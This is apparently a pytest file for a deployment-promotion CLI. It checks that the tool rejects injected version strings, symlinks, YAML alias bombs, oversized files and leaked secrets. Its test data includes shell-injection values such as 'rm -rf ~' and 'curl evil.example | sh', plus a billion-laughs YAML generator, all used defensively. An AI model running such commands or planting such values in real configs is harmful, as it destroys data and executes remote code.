"""Input that must never be written: refused with exit 2 before anything changes."""

from __future__ import annotations

import base64
import fcntl
import os
import signal
import time
from pathlib import Path

import pytest

from tests import processes
from tests.engine.test_bad_input import GOOD, PLAIN_ENV, assert_unchanged, graph_repo, run_bad
from tests.helpers import git

PLAIN = """
environments:
  qa: {path: envs/qa, renderer: plain}
  prod: {path: envs/prod, renderer: plain, from: [qa]}
"""

DEPLOYMENT = """apiVersion: apps/v1
kind: Deployment
metadata: {name: web}
spec:
  template:
    spec:
      containers:
        - name: web
          image: @VERSION@
"""

HELMRELEASE = """apiVersion: helm.toolkit.fluxcd.io/v2
kind: HelmRelease
metadata: {name: podinfo, namespace: apps}
spec:
  interval: 10m
  chart:
    spec:
      chart: podinfo
      version: @VERSION@
      sourceRef: {kind: HelmRepository, name: podinfo}
"""

OCIREPOSITORY = """apiVersion: source.toolkit.fluxcd.io/v1beta2
kind: OCIRepository
metadata: {name: manifests, namespace: flux-system}
spec:
  interval: 5m
  url: oci://ghcr.io/acme/manifests
  ref:
    @KEY@: @VERSION@
"""

APPLICATION = """apiVersion: argoproj.io/v1alpha1
kind: Application
metadata: {name: guestbook, namespace: argocd}
spec:
  project: default
  destination: {server: "https://kubernetes.default.svc", namespace: guestbook}
  source:
    repoURL: https://github.com/acme/guestbook.git
    path: deploy
    targetRevision: @VERSION@
"""

MARKER = """apiVersion: v1
kind: ConfigMap
metadata: {name: app}
data:
  VERSION: @VERSION@ # {"$promote": "app"}
"""


def fill(template: str, version: str, key: str = "tag") -> str:
    return template.replace("@VERSION@", version).replace("@KEY@", key)


def two_envs(make_repo, template: str, qa: str, prod: str, qa_key: str = "tag"):
    return make_repo(
        {
            "environments/graph.yaml": PLAIN,
            "envs/qa/app.yaml": fill(template, qa, qa_key),
            "envs/prod/app.yaml": fill(template, prod),
        }
    )


BAD_VERSIONS = [
    (DEPLOYMENT, '"ghcr.io/acme/web:1.2.0;rm -rf ~"', "';'"),
    (DEPLOYMENT, '"ghcr.io/acme/web:1.2.0 `id`"', "'`'"),
    (DEPLOYMENT, "ghcr.io/acme/web:" + "1" * 129, "is not an image tag"),
    (DEPLOYMENT, '"ghcr.io/acme/web:1.2.0\\n-forged"', "control characters '\\n'"),
    (DEPLOYMENT, '"ghcr.io/acme/web:1.2.0@sha256:$(id)"', "'$'"),
    (HELMRELEASE, '"6.0.0 $(reboot)"', "'$'"),
    (HELMRELEASE, '"6.0.0#x"', "'#'"),
    (APPLICATION, '"main; curl evil.example | sh"', "';'"),
    (APPLICATION, '"feature/../../x"', "is not a git branch"),
    (MARKER, '"1.1.0\\nPromote-Forced: yes"', "control characters '\\n'"),
    (MARKER, '"' + "x" * 300 + '"', "300 characters long"),
]
OLD = {
    DEPLOYMENT: "ghcr.io/acme/web:1.0.0",
    HELMRELEASE: "6.0.0",
    APPLICATION: "v1.0.0",
    MARKER: '"1.0.0"',
}


@pytest.mark.parametrize(("template", "bad", "expected"), BAD_VERSIONS)
def test_a_version_its_consumer_cannot_read_is_refused(make_repo, cli, template, bad, expected):
    repo = two_envs(make_repo, template, bad, OLD[template])
    message = run_bad(cli, repo, "qa", "prod", "--yes")
    assert "envs/qa/app.yaml:" in message  # where SRC pins it
    assert "refusing to write " in message and expected in message


GOOD_VERSIONS = [
    (DEPLOYMENT, "ghcr.io/acme/web:1.2.0_rc.1", "tag"),
    (DEPLOYMENT, "ghcr.io/acme/web@sha256:" + "ab" * 32, "tag"),
    (DEPLOYMENT, "ghcr.io/acme/web:1.2.0@sha256:" + "cd" * 32, "tag"),
    (HELMRELEASE, '">=6.1.0 <7.0.0"', "tag"),
    (HELMRELEASE, '"~6.1 || ^7.0"', "tag"),
    (APPLICATION, "HEAD", "tag"),
    (APPLICATION, "release/2.x", "tag"),
    (APPLICATION, "0a1b2c3d4e5f60718293a4b5c6d7e8f901234567", "tag"),
    (OCIREPOSITORY, '">=1.2.0 <2.0.0"', "semver"),
    (OCIREPOSITORY, "sha256:" + "ef" * 32, "digest"),
    (MARKER, '"a value: with $ymbols & spaces"', "tag"),
]
GOOD_OLD = {**OLD, OCIREPOSITORY: '"1.0.0"'}


@pytest.mark.parametrize(("template", "good", "key"), GOOD_VERSIONS)
def test_valid_versions_are_still_promoted(make_repo, cli, template, good, key):
    repo = two_envs(make_repo, template, good, GOOD_OLD[template], key)
    result = cli(repo, "qa", "prod", "--yes")
    assert result.exit_code == 0, result.stderr
    assert git(repo, "status", "--porcelain") == ""
    assert git(repo, "log", "-1", "--format=%s").startswith("promote(prod):")


def test_a_detached_head_is_refused_unless_asked_for(make_repo, cli):
    repo = graph_repo(make_repo, GOOD)
    git(repo, "checkout", "--quiet", "--detach")
    message = run_bad(cli, repo, "qa", "prod", "--yes")
    assert "HEAD is detached" in message and "--detached-ok" in message
    assert cli(repo, "qa", "prod", "--dry-run").exit_code == 0

    head = git(repo, "rev-parse", "HEAD")
    result = cli(repo, "qa", "prod", "--yes", "--detached-ok")
    assert result.exit_code == 0, result.stderr
    assert git(repo, "rev-parse", "HEAD^") == head
    assert git(repo, "rev-parse", "main") == head  # no branch moved
    assert git(repo, "status", "--porcelain") == ""


def test_a_destination_without_yaml_files_is_refused(make_repo, cli):
    repo = graph_repo(make_repo, GOOD)
    (repo / "envs/prod/README.md").write_text("prod is configured elsewhere\n")
    git(repo, "rm", "--quiet", "envs/prod/app.yaml")
    git(repo, "add", "--all")
    git(repo, "commit", "--quiet", "-m", "prod: no manifests")
    message = run_bad(cli, repo, "qa", "prod", "--yes")
    assert "'prod' has no YAML files under envs/prod" in message
    assert "environments/graph.yaml" in message


PLAIN_ENV_OUTSIDE = PLAIN_ENV.lstrip()


def committed_with_link(make_repo, tmp_path, link: str, target):
    """The GOOD repository whose `link` (under envs/prod) is a symbolic link to `target`."""
    repo = graph_repo(make_repo, GOOD)
    path = repo / link
    if path.exists():
        git(repo, "rm", "-r", "--quiet", link)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(target)
    git(repo, "add", "--all")
    git(repo, "commit", "--quiet", "-m", f"{link} is a link")
    return repo


def test_a_destination_file_linked_out_of_the_repository_is_not_written(make_repo, cli, tmp_path):
    outside = tmp_path / "outside.yaml"
    outside.write_text(PLAIN_ENV_OUTSIDE)
    repo = committed_with_link(make_repo, tmp_path, "envs/prod/app.yaml", outside)
    message = run_bad(cli, repo, "qa", "prod", "--yes")
    assert "envs/prod/app.yaml is a symbolic link" in message
    assert outside.read_text() == PLAIN_ENV_OUTSIDE
    assert git(repo, "ls-files", "--stage", "envs/prod/app.yaml").startswith("120000 ")


def test_a_link_inside_the_repository_is_not_replaced_by_a_file(make_repo, cli, tmp_path):
    repo = committed_with_link(make_repo, tmp_path, "envs/prod/app.yaml", "../shared.yaml")
    (repo / "envs/shared.yaml").write_text(PLAIN_ENV_OUTSIDE)
    git(repo, "add", "--all")
    git(repo, "commit", "--quiet", "-m", "shared")
    message = run_bad(cli, repo, "qa", "prod", "--yes")
    assert "envs/prod/app.yaml is a symbolic link (to ../shared.yaml)" in message
    assert (repo / "envs/shared.yaml").read_text() == PLAIN_ENV_OUTSIDE


def alias_bomb() -> str:
    """Nine levels of nine aliases: ~500 bytes that expand to 9**9 strings."""
    lines = ['a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for previous, current in zip("abcdefgh", "bcdefghi", strict=True):
        lines.append(f"{current}: &{current} [" + ", ".join([f"*{previous}"] * 9) + "]")
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize("where", ["envs/prod/bomb.yaml", "envs/qa/bomb.yaml"])
@pytest.mark.parametrize("renderer", ["plain", "kustomize"])
def test_an_alias_bomb_ends_quickly_with_exit_2(make_repo, where, renderer):
    graph = GOOD.replace("envs/qa}", f"envs/qa, renderer: {renderer}}}").replace(
        "envs/prod,", f"envs/prod, renderer: {renderer},"
    )
    files = {
        "environments/graph.yaml": graph,
        "envs/qa/app.yaml": PLAIN_ENV.replace("1.0.0", "1.1.0"),
        "envs/prod/app.yaml": PLAIN_ENV,
        where: "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: laughs}\ndata:\n  "
        + alias_bomb().replace("\n", "\n  "),
    }
    if renderer == "kustomize":
        kustomization = "resources: [app.yaml, bomb.yaml]\n"
        files["envs/qa/kustomization.yaml"] = files["envs/prod/kustomization.yaml"] = kustomization
        other = where.replace("prod", "@").replace("qa", "prod").replace("@", "qa")
        files[other] = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: laughs}\n"
    repo = make_repo(files)
    head = git(repo, "rev-parse", "HEAD")
    started = time.monotonic()
    result = processes.run(repo, "qa", "prod", "--yes", timeout=30)
    assert time.monotonic() - started < 15
    assert result.returncode == 2, result.stderr
    assert "bomb.yaml" in result.stderr and "alias" in result.stderr
    assert_unchanged(repo, head)


def test_a_file_over_the_size_limit_is_refused(make_repo, cli, monkeypatch):
    padding = "".join(f"  KEY_{n}: value-{n}\n" for n in range(200))
    repo = graph_repo(make_repo, GOOD)
    big = repo / "envs/prod/big.yaml"
    big.write_text("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: big}\ndata:\n" + padding)
    git(repo, "add", "--all")
    git(repo, "commit", "--quiet", "-m", "a big ConfigMap")
    size = big.stat().st_size
    monkeypatch.setenv("PROMOTE_MAX_FILE_BYTES", str(size - 1))
    message = run_bad(cli, repo, "qa", "prod", "--yes")
    assert f"envs/prod/big.yaml: the file is {size} bytes" in message
    assert "PROMOTE_MAX_FILE_BYTES" in message
    monkeypatch.setenv("PROMOTE_MAX_FILE_BYTES", str(size))
    assert cli(repo, "qa", "prod", "--yes").exit_code == 0


PASSWORD = "hunter2-correct-horse"


def with_files(make_repo, files: dict[str, str]):
    """GOOD's repository (qa at 1.1.0, prod at 1.0.0) with `files` added or replaced."""
    return make_repo(
        {
            "environments/graph.yaml": GOOD,
            "envs/qa/app.yaml": PLAIN_ENV.replace("1.0.0", "1.1.0"),
            "envs/prod/app.yaml": PLAIN_ENV,
            **files,
        }
    )


def assert_never_shown(result, *secrets: str) -> None:
    shown = result.stdout + result.stderr
    for secret in secrets:
        for spelling in (secret, base64.b64encode(secret.encode()).decode()):
            assert spelling not in shown, f"{spelling!r} was printed"


def test_a_duplicate_key_in_a_secret_does_not_print_its_values(make_repo, cli):
    secret = (
        "apiVersion: v1\nkind: Secret\nmetadata: {name: db}\ntype: Opaque\nstringData:\n"
        f"  password: {PASSWORD}\n  password: {PASSWORD}-2\n"
    )
    repo = with_files(make_repo, {"envs/prod/secret.yaml": secret})
    for args in (("qa", "prod", "--yes"), ("status",), ("render", "prod")):
        result = cli(repo, *args)
        assert result.exit_code == 2, result.stderr
        assert 'envs/prod/secret.yaml:7:3: found duplicate key "password"' in result.stderr
        assert_never_shown(result, PASSWORD)


def test_a_kustomize_error_quoting_a_secret_literal_masks_it(make_repo, cli):
    graph = GOOD.replace("envs/qa}", "envs/qa, renderer: kustomize}")
    graph = graph.replace("envs/prod,", "envs/prod, renderer: kustomize,")
    kustomization = (
        "resources: [app.yaml]\nsecretGenerator:\n  - name: db\n"
        f"    literals:\n      - {PASSWORD}\n"  # no `key=`: kustomize quotes it back
    )
    repo = with_files(
        make_repo,
        {
            "environments/graph.yaml": graph,
            "envs/qa/kustomization.yaml": "resources: [app.yaml]\n",
            "envs/prod/kustomization.yaml": kustomization,
        },
    )
    head = git(repo, "rev-parse", "HEAD")
    result = cli(repo, "qa", "prod", "--yes")
    assert result.exit_code == 2, result.stderr
    assert "invalid literal source" in result.stderr  # kustomize's own words, masked
    assert_never_shown(result, PASSWORD)
    assert_unchanged(repo, head)


@pytest.mark.parametrize("field", ["stringData", "data"])
def test_a_marker_on_a_secret_value_is_refused_without_showing_it(make_repo, cli, field):
    def secret(password: str) -> str:
        value = password if field == "stringData" else base64.b64encode(password.encode()).decode()
        return (
            "apiVersion: v1\nkind: Secret\nmetadata: {name: db}\ntype: Opaque\n"
            f'{field}:\n  password: "{value}" # {{"$promote": "db-password"}}\n'
        )

    repo = with_files(
        make_repo,
        {
            "envs/qa/secret.yaml": secret(f"{PASSWORD}-qa"),
            "envs/prod/secret.yaml": secret(f"{PASSWORD}-prod"),
        },
    )
    for args in (("qa", "prod", "--yes"), ("qa", "prod", "--dry-run"), ("status",)):
        result = cli(repo, *args)
        assert result.exit_code == 2, (result.stdout, result.stderr)
        assert "secret.yaml:6:13: the marker 'db-password' is on a Secret's value" in result.stderr
        assert_never_shown(result, f"{PASSWORD}-qa", f"{PASSWORD}-prod")
    assert git(repo, "status", "--porcelain") == ""


def test_ctrl_c_while_no_gate_runs_stops_promote_with_130(make_repo):
    repo = with_files(make_repo, {})
    head = git(repo, "rev-parse", "HEAD")
    lock = repo / ".git/promote.lock"
    with lock.open("a") as held:
        fcntl.flock(held, fcntl.LOCK_EX)  # promote queues behind it: interrupted while waiting
        process = processes.start(repo, "qa", "prod", "--yes", "--wait-lock", "60")
        deadline = time.monotonic() + 30
        while not has_open(process.pid, lock):
            assert time.monotonic() < deadline and process.poll() is None
            time.sleep(0.05)
        process.send_signal(signal.SIGINT)
        _out, err = process.communicate(timeout=20)
    assert process.returncode == 130, err
    assert err.strip().splitlines() == ["promote: interrupted"]
    assert_unchanged(repo, head)


def has_open(pid: int, path) -> bool:
    try:
        return any(Path(os.readlink(fd)) == path for fd in Path(f"/proc/{pid}/fd").iterdir())
    except OSError:
        return False
